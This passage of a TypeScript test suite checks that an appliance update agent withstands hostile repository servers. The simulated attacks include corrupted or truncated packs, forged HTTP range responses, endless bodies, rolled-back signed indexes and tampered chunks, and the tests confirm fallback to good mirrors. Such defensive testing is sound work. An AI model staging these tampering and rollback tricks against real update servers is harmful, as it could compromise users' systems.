        const r = await runCli(host, tarFile ? ['import', tarFile, '--no-start', '--json'] : ['upgrade', 'sbc', '--json']);
        check(t, a, r.json as { code?: string; message?: string }, r.exitCode, `cli (stderr: ${r.stderr.slice(-2000)})`);
        t.regex(r.stderr, /^loopship-agent: error: .+$/m, 'cli: an error line');
        t.regex(r.stderr.split('\n').find((l) => l.startsWith('loopship-agent: error: ')) ?? '', a.where(W), 'cli: the error line names the file');
        await unchanged(t, a, host, before, stateBefore, 'cli');
      }

      // 2. the library, with 1.0.0 running in the fake backend
      const backend = runningBackend(W, host);
      const agent = agentFor(host, backend, { fetcher: a.fetcher, now: a.now });
      const err = (await t.throwsAsync(tarFile ? agent.importPackage(tarFile, { start: false }) : agent.upgrade('sbc'))) as Error & { code?: string };
      check(t, a, err, exitCodeFor(err), 'library');
      await unchanged(t, a, host, before, stateBefore, 'library');
      t.deepEqual([backend.starts.length, backend.stops.length], [0, 0], 'the running appliance was not touched');
      t.is(backend.running.get('sbc')?.version, '1.0.0');
      t.is(await fileSha(join(v1, 'disk.img')), images.disk, 'booted image unchanged');
      t.is(await fileSha(join(v1, 'verified.img')), images.verified, 'verified image unchanged');

      // 3. a good repository completes the work
      await hostConfig(host.dir, [W.goodServer.url]);
      const up = await agentFor(host, backend).upgrade('sbc');
      t.like(up[0], { name: 'sbc', from: '1.0.0', to: '2.0.0', status: 'upgraded' });
      t.is(backend.running.get('sbc')?.version, '2.0.0');
      t.is(await fileSha(join(host.stateDir, 'appliances', 'sbc', '2.0.0', 'verified.img')), W.sbc2ImageSha, 'the upgrade holds the image as built');
    });
  });
}


// ---------- attacks the agent survives: the upgrade completes from good sources ----------

interface Recovery {
  name: string;
  prepare?(ctx: AttackContext): Promise<void>;
  http?(ctx: AttackContext): Override;
  repos?(hostile: string, w: World): string[];
  /** a log line the agent must have written (the fallback it took) */
  log?: RegExp;
  /** requests the hostile server must have seen */
  requested?(reqs: string[], w: World): boolean;
}

const range206 = (m: Match, tree: string, f: (start: number, end: number, data: Buffer) => { status: number; headers: Record<string, string | number>; body: Buffer }): Override => async (req, res, path) => {
  if (!m(path, W)) return false;
  const data = await readFile(join(tree, path));
  const r = /^bytes=(\d+)-(\d+)$/.exec(String(req.headers.range ?? ''));
  const start = r ? Number(r[1]) : 0;
  const end = r ? Number(r[2]) : data.length - 1;
  const out = f(start, end, data);
  res.writeHead(out.status, { 'content-length': out.body.length, ...out.headers }).end(out.body);
  return true;
};
const PACK: Match = (p, x) => p === packRel(x);
const fellBack = (reqs: string[], x: World) => reqs.some((r) => r.startsWith(packRel(x))) && reqs.includes(chunkRel(x));

const recoveries: Recovery[] = [
  { name: 'pack: one byte of a frame changed', prepare: (c) => flip(c, packRel(c.world), () => packEntry(c.world).offset + Math.floor(packEntry(c.world).chunk.csize / 2)), log: /pack .*fetching .*chunks one by one/, requested: fellBack },
  { name: 'pack: truncated (wrong length)', prepare: async (c) => c.write(packRel(c.world), (await c.read(packRel(c.world))).subarray(0, packEntry(c.world).offset + 10)), log: /pack .*fetching .*chunks one by one/, requested: (r, x) => r.includes(chunkRel(x)) },
  { name: 'pack: 200 with the whole file instead of 206', http: (c) => range206(PACK, c.tree, (_s, _e, data) => ({ status: 200, headers: {}, body: data })), log: /pack .*HTTP 200 \(expected 206\).*fetching .*chunks one by one/, requested: fellBack },
  { name: 'pack: 206 for another range than asked', http: (c) => range206(PACK, c.tree, (s, e, data) => ({ status: 206, headers: { 'content-range': `bytes ${s + 1}-${e + 1}/${data.length}` }, body: data.subarray(s + 1, e + 2) })), log: /pack .*Content-Range .*does not answer.*fetching .*chunks one by one/, requested: fellBack },
  { name: 'pack: 206 with the right header and other bytes', http: (c) => range206(PACK, c.tree, (s, e, data) => ({ status: 206, headers: { 'content-range': `bytes ${s}-${e}/${data.length}` }, body: Buffer.alloc(e - s + 1, 0x28) })), log: /pack .*fetching .*chunks one by one/, requested: fellBack },
  { name: 'pack: missing (404)', prepare: (c) => c.remove('packs'), log: /no pack for manifest sbc 2\.0\.0.*chunks one by one/, requested: (r, x) => r.includes(chunkRel(x)) },
  { name: 'pack: endless 206 body', http: () => (req, res, path) => { if (!PACK(path, W)) return false; res.writeHead(206, { 'content-range': `bytes ${/(\d+)-(\d+)/.exec(String(req.headers.range))![1]}-${/(\d+)-(\d+)/.exec(String(req.headers.range))![2]}/*` }); const b = Buffer.alloc(65536); const pump = () => { while (!res.destroyed && res.write(b)); if (!res.destroyed) res.once('drain', pump); }; pump(); return true; }, log: /pack .*fetching .*chunks one by one/, requested: fellBack },
  { name: 'mirrors: first serving a stale (rolled back) index, second good', prepare: async (c) => { await c.write('index.json', await c.read(indexHistoryPath(c.world.indexVersion - 2))); await c.write('index.json.asc', await c.read(sigPath(indexHistoryPath(c.world.indexVersion - 2)))); }, repos: (h, x) => [h, x.goodServer.url], requested: (r) => r.includes('index.json') },
  { name: 'mirrors: first serving a tampered chunk (and no pack), second good', prepare: chunkAttack((c, rel, len) => c.write(rel, compressChunk(Buffer.alloc(len, 7)))), repos: (h, x) => [h, x.goodServer.url], requested: (r, x) => r.includes(chunkRel(x)) },
  { name: 'mirrors: first down, second good', repos: (_h, x) => ['http://127.0.0.1:9', x.goodServer.url] },
];

for (const a of recoveries) {
  test(`survived: ${a.name}`, async (t) => {
    W = await worldP;
    await gate(async () => {
      if (a.name.startsWith('pack')) t.true(existsSync(join(W.repoDir, packRel(W))), 'the repository has packs');
      const { server, host } = await scene(t, a);
      const backend = runningBackend(W, host);
      const logs: string[] = [];
      const up = await agentFor(host, backend, { logs }).upgrade('sbc');
      t.like(up[0], { name: 'sbc', from: '1.0.0', to: '2.0.0', status: 'upgraded' });
      t.is(backend.running.get('sbc')?.version, '2.0.0');
      t.is(await fileSha(join(host.stateDir, 'appliances', 'sbc', '2.0.0', 'verified.img')), W.sbc2ImageSha, 'the image as built: no hostile byte in it');
      if (a.log) t.true(logs.some((l) => a.log!.test(l)), logs.join('\n'));
      if (a.requested) t.true(a.requested(server.requests, W), server.requests.join('\n'));
    });
  });
}

// ---------- the checks themselves can fail ----------

test('the checks see a changed state file, a new file and an unverified block in staging', async (t) => {
  W = await worldP;
  const host = await copyHost(W, 'selftest');
  const before = await hashTree(host.dir, SKIP);
  await writeFile(join(host.stateDir, 'trust', 'index-version'), '999\n');
  await writeFile(join(host.stateDir, 'stray'), 'x');
  const after = await hashTree(host.dir, SKIP);
  t.deepEqual(diffTrees(before.files, after.files).map((l) => l.split(':')[0]).sort(), ['state/stray', 'state/trust/index-version']);
  const fake = join(host.dir, 'staged.img');
  await execa('cp', ['--sparse=always', W.sbc2ImagePath, fake]);
  const fh = await (await import('node:fs/promises')).open(fake, 'r+');
  await fh.write(Buffer.from('evil'), 0, 4, W.newChunks[0].offset + 8);
  await fh.close();
  t.deepEqual((await stagingHoldsOnlyVerifiedBytes(fake, W.sbc2ImagePath)).bad, [W.newChunks[0].offset]);
});
